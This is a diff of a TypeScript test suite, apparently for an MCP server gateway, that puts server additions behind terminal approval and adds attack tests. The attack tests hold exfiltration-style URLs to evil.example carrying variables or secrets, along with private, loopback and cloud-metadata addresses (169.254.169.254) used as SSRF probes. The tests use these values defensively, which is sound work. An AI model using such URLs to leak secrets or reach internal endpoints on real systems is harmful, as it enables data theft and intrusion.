@@ -48,14 +48,21 @@ const ready = async (page: RawPage, server: string) => {
   const { servers } = await page.request("gateway/servers", {});
   expect(servers.find(({ name }) => name === server)).toMatchObject({ state: "ready" });
 };
+/** Adds a server of this machine, which the terminal allows. */
+const addHere = async (stage: SetupStage, page: RawPage, name: string, draft: ServerDraft) => {
+  const { pending } = await page.request("gateway/add-server", { name, draft });
+  expect(pending?.state).toBe("asking");
+  await stage.allow();
+  await expect.poll(() => names(page)).toContain(name);
+};
 const code = (expected: string) =>
   expect.objectContaining({ data: expect.objectContaining({ code: expected }) });
 
 describe("a server with an address", () => {
-  it("starts at once, is in the file with the comments, and can be disabled, enabled and removed", async () => {
+  it("starts once it is allowed, is in the file with the comments, and can be disabled, enabled and removed", async () => {
     const { stage, page } = await open({ text: '{\n  // mine\n  "mcpServers": {}\n}\n' });
     const url = await remote();
-    expect(await page.request("gateway/add-server", { name: "shop", draft: { url } })).toEqual({});
+    await addHere(stage, page, "shop", { url });
     expect(await stage.text()).toBe(
       `{\n  // mine\n  "mcpServers": {\n    "shop": {\n      "url": "${url}"\n    }\n  }\n}\n`,
     );
@@ -74,7 +81,7 @@ describe("a server with an address", () => {
     await page.request("gateway/remove-server", { name: "shop", version: await stage.version(page, "shop") });
     expect(await names(page)).toEqual([]);
     expect(await stage.text()).toBe('{\n  // mine\n  "mcpServers": {}\n}\n');
-    expect(stage.questions).toEqual([]);
+    expect(stage.questions).toHaveLength(1);
   });
 
   it("gets header secrets, which are stored, never shown, and deleted with it", async () => {
@@ -85,7 +92,7 @@ describe("a server with an address", () => {
       url: server.url,
       headers: { "X-Key": { secret: "s3cret-value" }, "X-Team": { text: "blue" } },
     };
-    await page.request("gateway/add-server", { name: "shop", draft });
+    await addHere(stage, page, "shop", draft);
     await ready(page, "shop");
     expect(server.received.at(-1)?.headers).toMatchObject({ "x-key": "s3cret-value", "x-team": "blue" });
     const text = await stage.text();
@@ -126,16 +133,15 @@ describe("a server with an address", () => {
   it("attack: needs the terminal if it would send variables or kept secrets elsewhere, or reach the private network", async () => {
     const { stage, page } = await open();
     const url = await remote();
-    await page.request("gateway/add-server", {
-      name: "shop",
-      draft: { url, headers: { "X-Key": { secret: "s3cret" } } },
-    });
+    await addHere(stage, page, "shop", { url, headers: { "X-Key": { secret: "s3cret" } } });
     const text = await stage.text();
     const version = await stage.version(page, "shop");
     const attempts: [string, ServerDraft][] = [
       ["url-reference", { url: `https://evil.example/?k=${VARIABLE}` }],
       ["header-reference", { url: "https://evil.example", headers: { K: { text: VARIABLE } } }],
       ["private", { url: "https://10.0.0.1/mcp" }],
+      ["loopback", { url: "http://127.0.0.1:1/mcp" }],
+      ["localhost", { url: "http://localhost:1/mcp" }],
       ["private-plain", { url: "http://printer.local/mcp", privateNetwork: true }],
     ];
     for (const [name, draft] of attempts)
@@ -144,6 +150,69 @@ describe("a server with an address", () => {
     const { pending } = await page.request("gateway/change-server", { name: "shop", version, draft: moved });
     expect(pending?.state).toBe("asking");
     expect(await stage.text()).toBe(text);
+    // This address is in force already.
+    expect(await page.request("gateway/add-server", { name: "again", draft: { url } })).toEqual({});
+  });
+
+  it.each(["http://169.254.169.254/latest", "https://[fe80::1]/", "https://[::ffff:169.254.169.254]/"])(
+    "attack: %s is never accepted",
+    async (url) => {
+      const { stage, page } = await open({
+        imports: { "other.json": JSON.stringify({ mcpServers: { cloud: { url } } }) },
+      });
+      const draft = { url, privateNetwork: true };
+      const added = page.request("gateway/add-server", { name: "cloud", draft });
+      await expect(added).rejects.toThrow("is reserved for the network itself");
+      for (const from of [
+        { text: `{ "cloud": { "url": "${url}" } }` },
+        { file: join(stage.folder, "other.json") },
+      ]) {
+        const found = await page.request("gateway/add-found", { ...from, names: ["cloud"] });
+        expect(found.failed).toMatchObject([{ message: expect.stringContaining("is reserved") }]);
+      }
+    },
+  );
+
+  it("attack: needs the terminal if another origin would get the policy, permissions or folders of the first", async () => {
+    const url = "https://a.example/mcp";
+    const mcpServers = Object.fromEntries([
+      ["plain", { url }],
+      ["policy", { url, policy: { "tools/call": "allow" } }],
+      ["roots", { url, roots: ["file:///srv"] }],
+      ["program", { command: "true", policy: { "tools/call": "allow" } }],
+    ]);
+    const { stage, page } = await open({ text: JSON.stringify({ mcpServers }) });
+    const move = async (name: string, to: string) => {
+      const version = await stage.version(page, name);
+      const { pending } = await page.request("gateway/change-server", { name, version, draft: { url: to } });
+      return pending?.state;
+    };
+    expect(await move("plain", "https://evil.example/mcp")).toBeUndefined();
+    for (const name of ["policy", "roots", "program"])
+      expect(await move(name, "https://evil.example/mcp"), name).toBe("asking");
+    expect(await move("policy", "https://a.example/other")).toBeUndefined();
+  });
+
+  it("attack: a draft that also enables a server is judged as a new one", async () => {
+    const url = "http://127.0.0.1:1/mcp";
+    const headers = { K: VARIABLE };
+    const { stage, page } = await open({
+      text: JSON.stringify({
+        mcpServers: {
+          here: { url, disabled: true },
+          reads: { url: "https://a.example", headers, disabled: true },
+        },
+      }),
+    });
+    const drafts = {
+      here: { url, type: "sse" },
+      reads: { url: "https://a.example", type: "sse", headers: { K: { keep: true } } },
+    } as const;
+    for (const [name, draft] of Object.entries(drafts)) {
+      const version = await stage.version(page, name);
+      const change = { name, version, draft, disabled: false };
+      expect((await page.request("gateway/change-server", change)).pending?.state, name).toBe("asking");
+    }
   });
 });
 
@@ -310,6 +379,48 @@ describe("attack: a command that a page asks for", () => {
     expect(await names(page)).toEqual(["b"]);
   });
 
+  it("attack: a change that changes nothing does not start a command that this run does not use", async () => {
+    const text = JSON.stringify({ mcpServers: { used: { command: "true" }, other: { command: "false" } } });
+    const { stage, page } = await open({ text, uses: ["used"] });
+    const enable = async (name: string) =>
+      page.request("gateway/change-server", {
+        name,
+        version: await stage.version(page, name),
+        disabled: false,
+      });
+    expect(await enable("used")).toEqual({});
+    expect((await enable("other")).pending?.state).toBe("asking");
+    expect(stage.isNew).toEqual([]);
+    await stage.allow();
+    await expect.poll(() => stage.isNew).toEqual(["other"]);
+  });
+
+  it("attack: its question does not show the page values that the page did not send", async () => {
+    const env = { TOKEN: "kept-literal", MODE: "old" };
+    const { stage, page } = await open({
+      text: JSON.stringify({ mcpServers: { tool: { command: "true", env, disabled: true } } }),
+      imports: {
+        "other.json": JSON.stringify({ mcpServers: { more: { command: "x", env: { N: "kept-literal" } } } }),
+      },
+    });
+    const version = await stage.version(page, "tool");
+    const draft = { command: "false", env: { TOKEN: { keep: true as const }, MODE: { text: "fast" } } };
+    const { pending } = await page.request("gateway/change-server", { name: "tool", version, draft });
+    expect(pending?.lines.join()).toContain('"env":{"TOKEN":"(kept)","MODE":"fast"}');
+    expect(pending?.command).toBeUndefined();
+    const enabled = { name: "tool", version, disabled: false };
+    const file = join(stage.folder, "other.json");
+    const answers = [
+      pending,
+      await page.request("gateway/change-server", enabled),
+      await page.request("gateway/add-found", { file, names: ["more"] }),
+      await stage.state(page),
+    ];
+    expect(JSON.stringify(answers)).not.toContain("kept-literal");
+    // The terminal shows all.
+    await expect.poll(() => JSON.stringify(stage.questions)).toContain("kept-literal");
+  });
+
   it("is refused if it is too long to be read, and the terminal is not buried in questions", async () => {
     const { stage, page } = await open();
     const add = (name: string, args: string[]) =>
@@ -360,10 +471,7 @@ describe("the settings file", () => {
   it("survives a restart of the gateway", async () => {
     const { stage, page } = await open();
     const url = await remote();
-    await page.request("gateway/add-server", {
-      name: "shop",
-      draft: { url, headers: { K: { secret: "s" } } },
-    });
+    await addHere(stage, page, "shop", { url, headers: { K: { secret: "s" } } });
     await stage.gateway.close(0);
     await stage.start(true, []);
     await ready(stage.page(), "shop");
